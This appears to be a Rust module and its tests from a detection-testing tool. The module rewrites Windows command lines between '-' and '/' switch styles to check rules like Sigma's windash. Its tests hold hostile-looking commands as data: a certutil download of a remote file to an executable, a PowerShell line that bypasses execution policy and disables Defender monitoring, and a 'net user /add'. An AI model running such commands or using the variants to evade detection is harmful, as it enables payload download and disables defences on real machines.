//! `/` versus `-` switches: many Windows tools parse `-urlcache` and
//! `/urlcache` alike, so attackers use whichever a rule does not expect
//! (Sigma's `windash` modifier exists for this). Only tools known to accept
//! both characters are changed, and a line is changed to one style throughout.

use super::cmdline::{powershell_script_switch, split_args, switch_name};
use crate::plan::rng::Rng;

/// Tools that accept `-` and `/` as their switch character.
const EITHER_SWITCH_CHARACTER: [&str; 13] = [
    "certutil",
    "schtasks",
    "msiexec",
    "regsvr32",
    "reg",
    "wmic",
    "esentutl",
    "cmdkey",
    "whoami",
    "tasklist",
    "taskkill",
    "powershell",
    "pwsh",
];

pub fn apply(tool: &str, line: &str, rng: &mut Rng) -> Option<String> {
    if !EITHER_SWITCH_CHARACTER.contains(&tool) {
        return None;
    }
    let target = *rng.pick(&['-', '/']);
    let args = split_args(line);
    // PowerShell's script text is PowerShell's to parse: stop at its switch.
    let last = match tool {
        "powershell" | "pwsh" => powershell_script_switch(line, &args).unwrap_or(args.len()),
        _ => args.len(),
    };
    let mut out = line.to_string();
    for (n, r) in args.iter().enumerate().take(last + 1).skip(1) {
        // `reg … /d DATA`: the data is a value even when it starts with `-`.
        let after_data_switch = tool == "reg"
            && line[args[n - 1].clone()].len() == 2
            && switch_name(&line[args[n - 1].clone()]).is_some_and(|s| s.eq_ignore_ascii_case("d"));
        if !after_data_switch && switch_name(&line[r.clone()]).is_some() {
            out.replace_range(r.start..r.start + 1, &target.to_string());
        }
    }
    (out != line).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn variants(tool: &str, line: &str) -> Vec<String> {
        (0..16)
            .filter_map(|n| apply(tool, line, &mut Rng::derive(n, "flags")))
            .collect()
    }

    #[test]
    fn switches_flip_to_one_style() {
        let line = "certutil.exe -urlcache /split -f http://x.test/a-b C:\\a.exe";
        let all = variants("certutil", line);
        assert!(
            all.contains(
                &"certutil.exe /urlcache /split /f http://x.test/a-b C:\\a.exe".to_string()
            )
        );
        assert!(
            all.contains(
                &"certutil.exe -urlcache -split -f http://x.test/a-b C:\\a.exe".to_string()
            )
        );
    }

    #[test]
    fn values_and_scripts_are_left_alone() {
        let reg = r"reg add HKCU\Software\X /v Y /d -enc /f";
        for v in variants("reg", reg) {
            assert!(v.contains(" -enc "), "{v}");
        }
        let ps =
            r#"powershell -ep bypass -Command "Set-MpPreference -DisableRealtimeMonitoring $true""#;
        for v in variants("powershell", ps) {
            assert!(
                v.ends_with(r#" "Set-MpPreference -DisableRealtimeMonitoring $true""#),
                "{v}"
            );
        }
        assert!(
            variants("powershell", ps)
                .iter()
                .any(|v| v.starts_with("powershell /ep bypass /Command"))
        );
    }

    #[test]
    fn tools_that_take_one_style_are_not_changed() {
        assert!(variants("net", "net user x /add").is_empty());
        assert!(variants("psexec64", "psexec64 -s x").is_empty());
    }
}
